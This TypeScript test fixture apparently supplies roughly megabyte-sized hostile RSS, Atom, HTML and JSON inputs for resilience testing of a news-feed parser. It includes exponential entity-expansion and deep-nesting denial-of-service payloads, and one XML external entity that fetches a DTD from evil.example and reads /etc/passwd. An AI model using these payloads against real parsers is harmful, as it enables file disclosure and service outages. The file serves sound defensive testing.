/**
 * Sources that try to take a page's time: large ones whose parts meet each other, or which open and never close. Each is of about a
 * megabyte, so that what takes time by the square takes minutes.
 */

const size = 1_000_000;

/** As many of a piece as make up the size, or a share of it. */
function many(piece: string, share = 1): string {
  return piece.repeat(Math.ceil((size * share) / piece.length));
}

function rss(items: string, attributes = ''): string {
  return `<rss version="2.0"${attributes}><channel><title>News</title>${items}</channel></rss>`;
}

const spaces =
  ' xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"';

/** As many stories as make up the size, each with one such text. */
function rssItems(element: string, text: string): string {
  return rss(many(`<item><title>Tide</title><${element}>${text}</${element.split(' ')[0]}></item>`), spaces);
}

function post(title: string, content: string): object {
  return { title: { rendered: title }, link: 'https://news.example/1', content: { rendered: content } };
}

function jsonOf(story: object): string {
  const text = JSON.stringify(story);
  return `[${text}${many(`,${text}`)}]`;
}

/** A feed of the same size that means no harm. */
export function honestFeed(): string {
  return rssItems('description', `The harbour is to be ${'dredged and '.repeat(20)}opened.`);
}

const story = { '@type': 'NewsArticle', headline: 'Tide' };
const wire = { uri: 'urn:1', headlines: [{ value: 'Tide' }] };
const deep = 100_000;

/** By what each tries. */
export const hostileSources: Readonly<Record<string, () => unknown>> = {
  // Before the first element.
  'comments that never end': () => many('<!--'),
  'comments that never end, before a feed': () => `${many('<!--', 0.09)}<rss ></rss>`,
  'closed comments before a feed': () => `${many('<!---->', 0.09)}${rss('')}`,
  'instructions that never end': () => many('<?a '),
  'document types that never end': () => many('<!DOCTYPE '),
  'document types that never end, before a feed': () => `${many('<!DOCTYPE ', 0.08)}<rss ></rss>`,
  'document types whose subset never ends': () => many('<!DOCTYPE['),
  'document types whose subset ends, and nothing else': () => many('<!DOCTYPE[] '),
  'brackets in a document type': () => `<!DOCTYPE rss [${many('] ')}`,
  'white space': () => many(' '),
  'white space before a feed': () => `${many(' \n')}${rss('')}`,
  'slashes, as before JSON in a comment': () => many('/'),
  'openings of CDATA': () => many('<![CDATA['),
  'a byte order mark and again': () => many('\ufeff'),
  'end tags of nothing within long names': () =>
    `<rss><channel>${Array.from({ length: 120 }, (_, index) => `<${'x'.repeat(4_000)}${index}>`).join('')}${many('</y>', 0.5)}`,
  'an author for every entry, of many references': () =>
    `<feed xmlns="http://www.w3.org/2005/Atom"><author><name>${many('&amp;', 0.5)}</name></author>${many('<entry><title>x</title></entry>', 0.5)}</feed>`,
  'many authors for every entry': () =>
    `<feed xmlns="http://www.w3.org/2005/Atom">${'<author><name>Mara Lin</name></author>'.repeat(300)}${many('<entry><title>x</title></entry>')}</feed>`,
  'long authors for every item of JSON': () => ({
    version: 'https://jsonfeed.org/version/1.1',
    authors: Array.from({ length: 50 }, () => ({ name: 'Mara Lin '.repeat(900) })),
    items: Array.from({ length: 10_000 }, () => ({ title: 'x' })),
  }),
  'tags within a link that may say “Read more”': () =>
    rssItems('description', `<![CDATA[<a >${'<b>'.repeat(1_640)}x</a>]]>`),
  'one name': () => `<${many('a')}`,
  'one name with colons': () => `<${many('a:')}`,

  // Feeds.
  'entities of entities': () =>
    `<!DOCTYPE rss [<!ENTITY a "${'ha'.repeat(50)}">${Array.from({ length: 20 }, (_, level) => `<!ENTITY a${level} "${`&a${level || ''};`.repeat(10)}">`).join('')}]>${rss('<item><title>&a19;</title></item>')}`,
  'entities of entities, behind a comment with a tag': () =>
    `<!-- <a --><!DOCTYPE rss [<!ENTITY a.0 "${'ha'.repeat(150)}">${Array.from({ length: 20 }, (_, level) => `<!ENTITY a.${level + 1} "${`&a.${level};`.repeat(10)}">`).join('')}]>${rss('<item><title>&a.20;</title></item>')}`,
  'one entity, often': () =>
    `<!DOCTYPE rss [<!ENTITY a "${'ha'.repeat(100)}">]>${rss(`<item><title>${many('&a;')}</title></item>`)}`,
  'an entity from outside': () =>
    `<!DOCTYPE rss [<!ENTITY % d SYSTEM "https://evil.example/x.dtd"> %d;<!ENTITY a SYSTEM "file:///etc/passwd">]>${rss('<item><title>&a;Tide</title></item>')}`,
  'elements in one another': () => rss(`<item><title>Tide</title>${'<a>'.repeat(deep)}${'</a>'.repeat(deep)}</item>`),
  'elements in one another, closed by other names': () =>
    rss(`<item><title>Tide</title>${'<a>'.repeat(deep)}${'</b>'.repeat(deep)}`),
  'elements in one another, with odd names': () =>
    rss(`<item><title>Tide</title>${'<aé>'.repeat(deep)}${'</a>'.repeat(deep)}`),
  'elements that an open quote hides': () =>
    rss(`<item><title>Tide</title>${'<a>'.repeat(deep)}<c x="><b>${'<b>'.repeat(deep)}<d y=">${'</b>'.repeat(deep)}`),
  'items in one another': () => `<rss><channel>${'<item><title>Tide</title>'.repeat(deep)}`,
  'a feed that breaks off in a name': () => `<rss><channel><item><title>Tide</title><${many('a')}`,
  'a feed that breaks off in a tag': () => `<rss><channel><item><title>Tide</title><a ${many('b ')}`,
  'a feed that breaks off in a comment': () => `<rss><channel><item><title>Tide</title><!-- ${many('-')}`,
  'a feed of opening brackets': () => `<rss><channel><item><title>Tide</title>${many('<')}`,
  'a feed of open quotes': () => rss(many('<a b="')),
  'a feed of open quotes that breaks off': () => `<rss><channel>${many('<a b="')}`,
  'a feed of two kinds of quotes': () => `<rss><channel>${many(`<a b='"`)}`,
  'a feed of closing brackets': () => `<rss><channel>${many('</')}`,
  'a feed of instructions': () => `<rss><channel>${many('<?')}`,
  'a feed of declarations': () => `<rss><channel>${many('<!')}`,
  'a feed of equals signs': () => rss(`<item ${many('= ')}><title>Tide</title></item>`),
  'a feed of bare ampersands': () => rss(`<item><title>Tide ${many('&')}</title></item>`),
  'a feed of references': () => rss(`<item><title>Tide ${many('&eacute;')}</title></item>`),
  'a feed of numbers': () => rss(`<item><title>Tide &#${many('1')}; &#x${many('f')}</title></item>`),
  'a feed of attributes': () =>
    rss(`<item ${Array.from({ length: 100_000 }, (_, at) => `a${at}=""`).join(' ')}><title>Tide</title></item>`),
  'a broken feed of attributes': () =>
    rss(many(`<item ${Array.from({ length: 2_500 }, (_, at) => `a${at}=1`).join(' ')}><title>Tide</item>`)),
  'a feed of prefixes': () => rss(many('<a:b c:d="&"/>')),
  'a feed of other prefixes': () => rss(Array.from({ length: 100_000 }, (_, at) => `<a${at}:b/>`).join('')),
  'a feed of namespaces': () =>
    rss(Array.from({ length: 60_000 }, (_, at) => `<a xmlns="urn:${at}" xmlns:b="urn:b"/>`).join('')),
  'a feed of items without anything': () => rss(many('<item/>')),
  'a feed of names': () =>
    rss(
      `<item><title>Tide</title>${Array.from({ length: 60_000 }, (_, at) => `<dc:creator>A${at}</dc:creator>`).join('')}</item>`,
      spaces,
    ),
  'a feed of pictures and thumbnails': () =>
    rss(`<item><title>Tide</title>${many('<media:content/>', 0.5)}${many('<media:thumbnail/>', 0.5)}</item>`, spaces),
  'a feed of groups': () =>
    rss(
      `<item><title>Tide</title>${many('<media:group><media:content/><media:content/></media:group>')}</item>`,
      spaces,
    ),
  'a feed of dates that are none': () => rss(`<item><title>Tide</title>${many('<pubDate>soon</pubDate>')}</item>`),
  'question marks in the address of a picture': () =>
    rss(
      `<item><title>Tide</title><media:content medium="image" url="https://news.example/${many('?')}&#10;x"/></item>`,
      spaces,
    ),
  'a size with space behind it': () =>
    rss(
      `<item><title>Tide</title><media:content medium="image" url="https://news.example/a" width="1${many(' ')}x"/></item>`,
      spaces,
    ),
  'a picture that never ends, in each item': () => rssItems('description', `&lt;img ${'a'.repeat(40_000)}`),
  'a picture of quotes, in each item': () => rssItems('description', `&lt;img ${'a="'.repeat(13_000)}`),
  'many pictures, in each item': () => rssItems('content:encoded', '&lt;img >'.repeat(4_000)),
  'paragraphs that never end, in each item': () => rssItems('description', '&lt;p>'.repeat(1_600)),
  'paragraphs whose tag never ends, in each item': () => rssItems('description', `&lt;p> ${'&lt;p '.repeat(1_600)}`),
  'brackets before an address, in each name': () => rssItems('dc:creator', '['.repeat(9_000)),
  'brackets and parentheses, in each name': () => rssItems('author', 'a@b('.repeat(2_000)),
  'references in references, in each item': () => rssItems('description', `&amp;lt;b${'&amp;amp;'.repeat(900)}`),
  'markup in each item': () => rssItems('title', '&lt;a'.repeat(2_000)),
  'an Atom feed of links': () =>
    `<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>Tide</title>${many('<link rel="a/a/a/a"/>')}</entry></feed>`,
  'an Atom feed in base64': () =>
    `<feed xmlns="http://purl.org/atom/ns#"><entry><title mode="base64">${many('QUFB')}</title></entry></feed>`,
  'an Atom feed of XHTML in one another': () =>
    `<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>Tide</title><summary type="xhtml">${'<div>'.repeat(4_000)}Low${'</div>'.repeat(4_000)}</summary></entry></feed>`,

  // Pages.
  'a page of elements in one another': () => `<html>${many('<div itemscope itemprop=a>')}`,
  'a page of scripts': () => `<html>${many('<script type="application/ld+json">{"@type":"NewsArticle"')}`,
  'a page of names': () => `<html><${many('a')}`,
  'a page of attributes': () => `<html><meta ${many('a ')}`,
  'a page of open quotes': () => `<html>${many('<a b="')}`,
  'a page of equals signs': () => `<html>${many('<a =  ')}`,
  'a page of formatting': () => `<html><body>${many('<p><b x=1><i x=2>')}`,
  'a page of tables': () => `<html><body>${many('<table>')}`,
  'a page of templates': () => `<html><body>${many('<template>')}`,
  'a page of drawings': () => `<html><body>${many('<svg><math>')}`,
  'a page of properties': () =>
    `<html><body itemscope itemtype="https://schema.org/NewsArticle">${many('<p itemprop="headline articleBody author image url">a')}`,
  'a page of pictures': () => `<html>${many('<meta property="og:image" content="https://news.example/a">')}`,

  // JSON.
  'arrays in one another': () => `${'['.repeat(deep)}${']'.repeat(deep)}`,
  'arrays that never end': () => many('['),
  'objects in one another': () => `${'{"a":'.repeat(deep)}1${'}'.repeat(deep)}`,
  'graphs in one another': () => `${'{"@graph":'.repeat(deep)}1${'}'.repeat(deep)}`,
  'a list of lists': () => `[${many('[],')}[]]`,
  'an object of names': () =>
    `{${Array.from({ length: 150_000 }, (_, at) => `"headline_${at}":1`).join()},"uri":"urn:1","headline":"Tide"}`,
  'a list of stories without anything': () => `{"@graph":[${many('{"@type":"NewsArticle"},')}{}]}`,
  'own articles': () => jsonOf({ headline: 'Tide' }),
  'addresses without end': () => jsonOf({ headline: 'Tide', url: `https://news.example/${'a'.repeat(9_000)}` }),
  'sizes with space behind them': () =>
    JSON.stringify({ ...story, image: { url: 'https://news.example/a', width: `1${many(' ')}x` } }),
  'sizes of renditions with space behind them': () =>
    JSON.stringify({ ...wire, renditions: [{ href: 'https://news.example/a', width: `1${many(' ')}x` }] }),
  'one picture in many sizes': () =>
    JSON.stringify({ headline: 'Tide', image: { src: 'https://news.example/a', srcset: many('%: , ') } }),
  'one picture in many brackets': () =>
    JSON.stringify({ headline: 'Tide', image: { src: 'https://news.example/a', srcset: many('a (') } }),
  'brackets before an address, in each author of a feed': () =>
    JSON.stringify({
      version: 'https://jsonfeed.org/version/1.1',
      items: Array.from({ length: 200 }, () => ({ title: 'Tide', authors: [{ name: '['.repeat(9_000) }] })),
    }),
  'pictures that never end, in each post': () => jsonOf(post('Tide', `<img ${'a-'.repeat(20_000)}`)),
  'paragraphs that never end, in each post': () => jsonOf(post('Tide', '<p>'.repeat(1_600))),
  'portraits in many sizes': () =>
    JSON.stringify({
      ...post('Tide', ''),
      _embedded: {
        author: [
          {
            name: 'Ada Moss',
            avatar_urls: Object.fromEntries(
              Array.from({ length: 150_000 }, (_, at) => [`${(at * 7919) % 150_001}`, '']),
            ),
          },
        ],
      },
    }),
  'one long name for many stories': () =>
    JSON.stringify({
      '@graph': [
        ...Array.from({ length: 1_000 }, () => ({
          ...story,
          author: Array.from({ length: 50 }, () => ({ '@id': '#a' })),
        })),
        { '@id': '#a', '@type': 'Person', name: '&amp;<b>'.repeat(100_000) },
      ],
    }),
  'fifty long names for many stories': () =>
    JSON.stringify({
      '@graph': [
        ...Array.from({ length: 2_000 }, (_, at) => ({
          ...story,
          inLanguage: at % 2 ? 'en' : 'de',
          author: Array.from({ length: 50 }, (_, name) => ({ '@id': `#${name}` })),
        })),
        ...Array.from({ length: 50 }, (_, name) => ({
          '@id': `#${name}`,
          '@type': 'Person',
          name: `${name}${'&amp;<b> and '.repeat(1_000)}`,
        })),
      ],
    }),
  'one long text for many stories': () =>
    JSON.stringify({
      '@graph': [
        ...Array.from({ length: 2_000 }, () => ({
          ...story,
          description: { '@id': '#a' },
          image: { '@id': '#b' },
          publisher: { '@id': '#b' },
        })),
        { '@id': '#a', '@value': 'x' },
        { '@id': '#b', name: '<b>'.repeat(300_000), caption: '<b>'.repeat(300_000), url: 'https://news.example/a' },
      ],
    }),
};
